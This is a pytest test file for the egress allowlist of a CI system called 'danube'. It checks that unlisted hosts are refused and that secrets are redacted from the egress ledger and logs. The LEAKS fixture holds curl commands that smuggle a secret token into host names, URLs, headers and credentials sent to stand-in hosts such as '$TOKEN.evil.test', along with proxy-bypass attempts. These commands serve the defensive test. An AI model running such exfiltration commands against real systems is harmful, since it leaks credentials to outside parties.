"""Egress of whole jobs: allowlist, log lines, the ledger in `danube explain`, and a server that is killed."""

import json
import os
import signal
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.adapters.images.containers import busybox
from tests.adapters.runtimes.sandbox.origins import Origin, serving
from tests.e2e.runs import danube_run, refused_run
from tests.support.image_layouts import Layout
from tests.support.server import FILES_TEST, Installation
from tests.support.waiting import wait_until

SIZE = 4_000_000


@pytest.fixture
def origin(tmp_path: Path) -> Iterator[Origin]:
    with serving({"/hello": b"hello\n"}, tmp_path, None) as served:
        yield served


def allowed(port: int) -> list[str]:
    """An allowlist with `files.test`, and the loopback that this name leads to."""
    return [f"files.test:{port}", f"127.0.0.1:{port}"]


def test_a_job_reaches_its_allowlist_and_its_log_reports_refusals(shared: Installation, origin: Origin) -> None:
    shared.pipeline(
        "app",
        f"""
        from danube import pipeline, step

        @pipeline(name="app")
        def build():
            step.run("curl -sS http://files.test:{origin.server_port}/hello", name="reach")
            step.run("curl -sS https://evil.test/ || true", name="refused")
            step.run("curl -sS --noproxy '*' http://other.test/ || true", name="around")
        """,
        egress_allowlist=allowed(origin.server_port),
    )
    shared.sync()
    job = shared.trigger("app")
    assert shared.end_of(job)["status"] == "success", shared.log(job)
    log = shared.log(job)
    assert "hello\n" in log
    second = log[log.index("--- step 2 ") : log.index("--- step 2 success")]
    assert "--- step 2: egress refused: evil.test:443 (not-listed): " in second
    assert "to allow it: egress_allowlist: [evil.test]\n" in second
    assert "--- egress refused: a program looked up other.test by DNS" in log

    found = json.loads(shared.command("explain", job, "--egress", "--json").stdout)
    assert found["network"] == "allowlist"
    assert found["needed_allowlist"] == [f"files.test:{origin.server_port}", f"127.0.0.1:{origin.server_port}"]
    assert [(one["step"], one["host"], one["verdict"]) for one in found["destinations"]] == [
        (1, "files.test", "allowed"), (2, "evil.test", "refused"), (None, "other.test", "refused"),
    ]  # fmt: skip
    assert found["destinations"][0]["received_bytes"] > 6
    table = shared.command("explain", job, "--egress").stdout
    assert f"files.test:{origin.server_port}" in table
    assert "egress_allowlist:\n  - evil.test\n" in table


def test_a_container_of_an_image_has_the_same_egress(shared: Installation, origin: Origin) -> None:
    """A static busybox: the proxy is an environment variable with a loopback address, which every program
    understands."""
    small = Layout(shared.path / "busybox").image("local/busybox:1", [busybox()])
    shared.command("image", "load", str(small.file(shared.path / "busybox.tar")))
    shared.pipeline(
        "app",
        f"""
        from danube import pipeline, step

        @pipeline(name="app")
        def build():
            step.run("wget -q -O - http://files.test:{origin.server_port}/hello; wget -q http://evil.test/ || true")
        """,
        image="local/busybox:1",
        egress_allowlist=allowed(origin.server_port),
    )
    shared.sync()
    job = shared.trigger("app")
    assert shared.end_of(job)["status"] == "success", shared.log(job)
    assert "hello\n" in shared.printed(job)
    assert "--- step 1: egress refused: evil.test:80 (not-listed)" in shared.log(job)


def test_without_an_allowlist_the_log_gives_the_missing_line(shared: Installation) -> None:
    shared.pipeline(
        "app",
        """
        from danube import pipeline, step

        @pipeline(name="app")
        def build():
            step.run("curl -sS https://packages.example/", name="install")
        """,
    )
    shared.sync()
    job = shared.trigger("app")
    assert shared.end_of(job)["status"] == "failure"
    assert "egress_allowlist: [packages.example]" in shared.log(job)


SECRET = "Correct.Horse-Battery_9"

LEAKS = """
    import socket
    from danube import pipeline, secrets, step

    @pipeline(name="app")
    def build():
        step.run("curl -sS https://before.evil.test/ || true", name="before")
        token = secrets.get("TOKEN")
        env = {"TOKEN": token, "HEX": token.encode().hex()}
        step.run("curl -sS https://$TOKEN.evil.test/$TOKEN || true; curl -sS https://$HEX.evil.test/ || true", env=env)
        step.run("curl -sS http://$TOKEN.evil.test/$TOKEN?$TOKEN -H 'Host: '$TOKEN || true", env=env)
        step.run("curl -sS http://files.test:PORT/$TOKEN?$TOKEN -u $TOKEN:$TOKEN -H X-Token:$TOKEN || true", env=env)
        step.run("curl -sSk --connect-to ::files.test:PORT https://$TOKEN.evil.test/ || true", env=env)
        step.run("curl -sS --noproxy '*' http://$TOKEN.evil.test/ || true", env=env)
        step.run("curl -v -sS https://$TOKEN.evil.test:444/ 2>&1 | tr A-Z a-z > said || true", env=env)
        step.run("echo ready; until [ -e go ]; do sleep 0.05; done", name="wait")
        step.run("curl -sS https://after.$TOKEN.test/ || true", env=env)
        step.run("curl -sS https://$NEW.evil.test/ || true", env={"NEW": secrets.get("NEW")})
"""
"""Every way for a program to put a secret into a name of the ledger, before and after two processes are killed."""


@pytest.mark.long
def test_a_secret_used_as_a_host_name_is_stored_nowhere(danube: Installation, origin: Origin) -> None:
    danube.add_settings(FILES_TEST)
    danube.pipeline(
        "app",
        LEAKS.replace("PORT", str(origin.server_port)),
        egress_allowlist=allowed(origin.server_port),
    )
    danube.serve()
    danube.command("secrets", "set", "TOKEN", stdin=SECRET)
    job = danube.trigger("app")
    danube.wait_for_log(job, "ready")
    danube.kill()
    for proxy in proxies_of(danube):
        os.kill(proxy, signal.SIGKILL)
    danube.serve()
    danube.command("secrets", "set", "NEW", stdin="Another-Secret")
    danube.command("secrets", "set", "TOKEN", stdin="its-new-value")
    (danube.workspace(job) / "go").touch()
    assert danube.end_of(job)["status"] == "success", danube.log(job)

    shown = danube.command("explain", job, "--egress", "--json").stdout
    found = [(one["step"], one["way"], one["host"], one["reason"]) for one in json.loads(shown)["destinations"]]
    assert found == [
        (1, "connect", "before.evil.test", "not-listed"),
        (2, "connect", "***.evil.test", "not-listed"),
        (3, "http", "***.evil.test", "not-listed"),
        (4, "http", "files.test", "listed"),
        (5, "connect", "files.test", "server-name-differs"),
        (None, "dns", "***.evil.test", "dns"),
        (7, "connect", "***.evil.test", "not-listed"),
        (9, "connect", "after.***.test", "not-listed"),
        (10, "connect", "***.evil.test", "not-listed"),
    ]
    assert "--- step 2: egress refused: ***.evil.test:443 (not-listed)" in danube.log(job)
    forms = [
        form.encode() for form in (SECRET, SECRET.lower(), SECRET.encode().hex(), "Another-Secret", "another-secret")
    ]
    for form in forms:
        assert danube.files_with(form) == [], form
        assert form not in danube.server_log.read_bytes()
        assert form not in shown.encode()


def proxies_of(danube: Installation) -> list[int]:
    """The process ids of the egress proxies of that data directory."""
    log = danube.data / "run" / "egress" / "proxy.log"
    return [
        int(place.parent.parent.name)
        for place in Path("/proc").glob("[0-9]*/fd/2")
        if os.path.realpath(place) == str(log)
    ]


@pytest.mark.long
def test_a_download_continues_without_the_server(danube: Installation) -> None:
    halfway, proceed = threading.Event(), threading.Event()
    with socket.create_server(("127.0.0.1", 0)) as listening:
        port = listening.getsockname()[1]

        def serve() -> None:
            connection, _ = listening.accept()
            with connection:
                connection.recv(65536)
                head = f"HTTP/1.1 200 OK\r\nContent-Length: {SIZE}\r\nConnection: close\r\n\r\n".encode()
                connection.sendall(head + b"1" * (SIZE // 2))
                halfway.set()
                proceed.wait(60)
                connection.sendall(b"2" * (SIZE // 2))

        thread = threading.Thread(target=serve)
        thread.start()
        danube.add_settings(FILES_TEST)
        danube.pipeline(
            "app",
            f"""
            from danube import pipeline, step

            @pipeline(name="app")
            def build():
                step.run("curl -sS http://files.test:{port}/ | tr -d 2 | wc -c")
            """,
            egress_allowlist=allowed(port),
        )
        danube.serve()
        job = danube.trigger("app")
        wait_until(halfway.is_set, 30, "half of the download")
        danube.kill()
        proceed.set()
        thread.join()
        danube.serve()
        assert danube.end_of(job)["status"] == "success", danube.log(job)
        assert f"{SIZE // 2}\n" in danube.printed(job)
    found = json.loads(danube.command("explain", job, "--egress", "--json").stdout)
    assert found["contacts"][0]["received_bytes"] > SIZE


# --- danube run


@pytest.fixture
def tree(tmp_path: Path, origin: Origin) -> Path:
    directory = tmp_path / "tree"
    directory.mkdir()
    (directory / "danubefile.py").write_text(
        "from danube import pipeline, step\n\n@pipeline(name='t')\ndef build():\n"
        f"    step.run(\"curl -sS --noproxy '' http://127.0.0.1:{origin.server_port}/hello\")\n"
    )
    return directory


@pytest.mark.long
def test_a_run_ends_with_the_allowlist_that_it_needs(tree: Path, tmp_path: Path, origin: Origin) -> None:
    own = f"127.0.0.1:{origin.server_port}"
    run = danube_run(tree, "--allow", own, state=tmp_path)
    assert run.code == 0, run.everything
    assert "hello\n" in run.printed
    assert f"egress: 1 reached; the allowlist that this run needs:\n\negress_allowlist:\n  - {own}\n" in run.errors
    events = [
        json.loads(line) for line in danube_run(tree, "--allow", own, "--json", state=tmp_path).printed.splitlines()
    ]
    assert events[-1]["event"] == "egress"
    assert events[-1]["needed_allowlist"] == [own]


def test_a_hermetic_run_reaches_only_what_is_allowed(tree: Path, tmp_path: Path, origin: Origin) -> None:
    own = f"127.0.0.1:{origin.server_port}"
    refused = danube_run(tree, "--hermetic", state=tmp_path)
    assert f"egress refused: {own} (loopback-address)" in refused.printed
    assert (
        f"egress: 0 reached, 1 refused; the allowlist that this run needs:\n\negress_allowlist:\n  - {own}\n"
        in refused.errors
    )
    (tmp_path / "pipeline.yaml").write_text(f"kind: Pipeline\nspec:\n  egress_allowlist:\n    - {own}\n")
    allowed = danube_run(tree, "--hermetic", "--allow", f"@{tmp_path / 'pipeline.yaml'}", state=tmp_path)
    assert (allowed.code, "hello\n" in allowed.printed) == (0, True)


@pytest.mark.parametrize(
    ("words", "what"),
    [
        (["--hermetic", "--network=host"], "does not use an allowlist"),
        (["--allow", "https://a.example/"], "it is a URL"),
        (["--allow", "@/nowhere.yaml"], "cannot be read as YAML"),
    ],
)
def test_contradictory_options_are_refused_before_a_step_runs(
    tree: Path, tmp_path: Path, words: list[str], what: str
) -> None:
    run = refused_run(tree, *words, state=tmp_path)
    assert run.code == 2
    assert what in run.errors
